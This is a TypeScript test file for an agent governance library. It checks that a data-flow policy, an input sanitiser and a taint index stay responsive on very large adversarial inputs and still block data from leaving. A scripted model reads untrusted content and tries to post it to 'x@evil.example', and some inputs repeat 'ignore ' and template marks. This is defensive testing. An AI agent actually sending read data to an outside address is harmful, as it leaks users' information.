import { createAgent } from '@provost/agent'
import type { Extension, Json, Steps } from '@provost/core'
import { defineExtension, finish, untrustedLabel } from '@provost/core'
import { createTaintIndex, dataFlowPolicy, sanitizeInbound } from '@provost/governance'
import { memoryStore } from '@provost/sessions'
import { scriptedModel } from '@provost/testing'
import { tool } from '@provost/tools'
import fc from 'fast-check'
import { describe, expect, test, vi } from 'vitest'
import { z } from 'zod'

import { full } from '../fixture/full.ts'

/** Bytes of a large value: 1 MB in full runs. By default a smaller one, in which each of them still pauses. */
const size = full ? 1_000_000 : 300_000

/** Returns a text of this many bytes in UTF-8. */
function filled(piece: string, bytes = size): string {
  return piece.repeat(Math.floor(bytes / Buffer.byteLength(piece)))
}

const prose = Array.from({ length: size / 125 }, (_, n) => `word${(n * 7919) % 4_001} of the report number ${n}`).join(
  ', ',
)

/** Texts of this size that are expensive to check. */
const hostile: readonly (readonly [name: string, text: string])[] = [
  ['a character that expands to a sentence', filled('\uFDFA')],
  ['characters that expand to words', filled('\u3316')],
  ['one letter', filled('a')],
  ['a letter and a space', filled('a ')],
  ['hexadecimal, spaced', filled('4a ')],
  ['percent escapes', filled('%61')],
  ['base64 in base64', Buffer.from(Buffer.from(prose).toString('base64')).toString('base64').slice(0, size)],
  ['template marks', filled('<|a|>')],
  ['instruction words', filled('ignore ')],
  ['JSON of numbers', `[${filled('1,')}1]`],
  ['JSON, nested', `${'['.repeat(900)}${filled('1,', size / 2)}1${']'.repeat(900)}`],
  [
    'JSON, a wide record',
    JSON.stringify(Object.fromEntries(Array.from({ length: size / 25 }, (_, n) => [`key ${n}`, n]))),
  ],
  ['a value that repeats itself', filled('@x')],
]

/**
 * Returns how often the event loop turns during a run. Each look at the clock takes 5 ms, so that the number depends on
 * the pauses of the work and not on the machine.
 */
async function turnsDuring<T>(work: () => Promise<T>): Promise<{ readonly turns: number; readonly value: T }> {
  let now = performance.now()
  vi.spyOn(performance, 'now').mockImplementation(() => (now += 5))
  let turns = 0
  let over = false
  const turn = (): void => {
    turns++
    if (!over) setImmediate(turn)
  }
  setImmediate(turn)
  const value = await work()
  over = true
  return { turns, value }
}

function deskOf(text: string, extensions: readonly Extension[]) {
  const read = tool({ name: 'read', effect: 'read', input: z.object({}), maxResultTokens: 1e9, execute: () => text })
  const post = tool({
    name: 'post',
    effect: 'egress',
    args: { body: 'content', to: 'destination' },
    input: z.object({ body: z.string(), to: z.string() }),
    execute: () => 'sent',
  })
  const model = scriptedModel([
    { toolCalls: [{ name: 'read', input: {} }] },
    { toolCalls: [{ name: 'post', input: { body: text, to: 'x@evil.example' } }] },
    { text: 'done' },
  ])
  return createAgent({ name: 'desk', model, tools: [read, post], extensions, store: memoryStore() })
}

describe('a large value', () => {
  test.for(hostile)('is read and judged while the process does other work: %s', async ([, text]) => {
    const desk = deskOf(text, [dataFlowPolicy({ mode: 'enforce', onViolation: 'deny' })])
    const { turns, value } = await turnsDuring(() => desk.run('Post the report'))
    expect(value.status).toBe('completed')
    const denied = value.messages.flatMap(({ content }) =>
      content.flatMap((part) => (part.type === 'tool-result' && part.toolName === 'post' ? [part.output.type] : [])),
    )
    expect(denied).toEqual(['execution-denied'])
    // Without pauses it turns zero times.
    expect(turns).toBeGreaterThan(1)
  })

  test.for(hostile)('is sanitised while the process does other work: %s', async ([, text]) => {
    const { turns, value } = await turnsDuring(() =>
      deskOf(text, [sanitizeInbound({ policy: 'strip+wrap' })]).run('Read'),
    )
    expect(value.status).toBe('completed')
    expect(turns).toBeGreaterThan(1)
  })

  test('does not delay others: a small run ends before a large one that started first', async () => {
    const order: string[] = []
    const policy = () => dataFlowPolicy({ mode: 'enforce', onViolation: 'deny' })
    const large = deskOf(filled('a'), [policy()])
    const small = deskOf('a short text', [policy()])
    await Promise.all([
      large.run('Post the report').then(() => order.push('large')),
      small.run('Post the report').then(() => order.push('small')),
    ])
    expect(order).toEqual(['small', 'large'])
  })
})

test('many large calls of one step are judged as each is alone', async () => {
  const bodies = [
    prose,
    filled('a', size / 5),
    filled('\uFDFA', size / 5),
    `${filled('b ', size / 10)}${prose.slice(0, 5_000)}`,
  ]
  const judged: Json[] = []
  const watch = defineExtension({
    name: 'watch',
    scope: 'tree',
    hooks: { event: (event) => void (event.type === 'governance.blocked' && judged.push(withoutRun(event))) },
  })
  const read = tool({ name: 'read', effect: 'read', input: z.object({}), maxResultTokens: 1e9, execute: () => prose })
  const post = tool({ name: 'post', effect: 'egress', input: z.object({ body: z.string() }), execute: () => 'sent' })
  const run = async (steps: readonly (readonly string[])[]): Promise<readonly Json[]> => {
    judged.length = 0
    const model = scriptedModel([
      { toolCalls: [{ name: 'read', input: {} }] },
      ...steps.map((texts) => ({ toolCalls: texts.map((body) => ({ name: 'post', input: { body } })) })),
      { text: 'done' },
    ])
    const policy = dataFlowPolicy({ mode: 'enforce', onViolation: 'deny' })
    await createAgent({ name: 'desk', model, tools: [read, post], extensions: [policy, watch] }).run('Hello')
    return [...judged]
  }
  const together = await run([bodies])
  expect(together).toHaveLength(bodies.length)
  expect(together).toEqual(await run(bodies.map((body) => [body])))
})

/** The evidence without the id of its run. */
const withoutRun = ({ evidence, runId }: { readonly evidence?: Json; readonly runId: string }): Json =>
  JSON.parse(JSON.stringify(evidence ?? null).replaceAll(runId, 'run'))

const label = untrustedLabel('mail')

/** Alternates between pieces of work, one step of each. */
function interleaved(works: readonly Steps<unknown>[]): readonly unknown[] {
  const results: unknown[] = []
  let open = works.map((work, at) => ({ work, at }))
  while (open.length > 0) {
    open = open.filter(({ work, at }) => {
      const step = work.next()
      if (step.done) results[at] = step.value
      return !step.done
    })
  }
  return results
}

test('the taint index finds the same in steps as at once, whatever is added meanwhile', () => {
  const piece = fc.constantFrom(
    'a',
    'a b ',
    '\uFDFA',
    'ｆｕｌｌ',
    '4a 4b ',
    '%61%62',
    prose.slice(0, 3_000),
    'the quick brown fox ',
  )
  const text = fc
    .tuple(piece, fc.integer({ min: 1, max: 40_000 }))
    .map(([one, bytes]) => one.repeat(Math.ceil(bytes / one.length)))
  fc.assert(
    fc.property(fc.array(text, { minLength: 1, maxLength: 4 }), text, (added, checked) => {
      const [atOnce, inSteps] = [createTaintIndex(), createTaintIndex()]
      for (const one of added) atOnce.add(one, { source: 'mail', label })
      interleaved(added.map((one) => inSteps.inSteps.add(one, { source: 'mail', label })))
      expect(inSteps.stats.characters).toBe(atOnce.stats.characters)
      const expected = atOnce.check({ body: checked })
      // The text added meanwhile is a known one, so it adds nothing.
      const [found] = interleaved([
        inSteps.inSteps.check({ body: checked }),
        ...added.map((one) => inSteps.inSteps.add(one, { source: 'mail', label })),
      ])
      expect(found).toEqual(expected)
      expect(finish(inSteps.inSteps.check({ body: checked }))).toEqual(expected)
    }),
    { numRuns: full ? 15 : 10 },
  )
})

test('a text that is added during another addition waits for it', () => {
  const index = createTaintIndex()
  const first = index.inSteps.add(prose, { source: 'first', label })
  first.next()
  index.add('the second text says something of its own', { source: 'second', label })
  finish(first)
  expect(index.check({ body: 'the second text says something of its own' }).map(({ source }) => source)).toEqual([
    'second',
  ])
  expect(index.check({ body: prose.slice(1_000, 1_400) }).map(({ source }) => source)).toEqual(['first'])
})
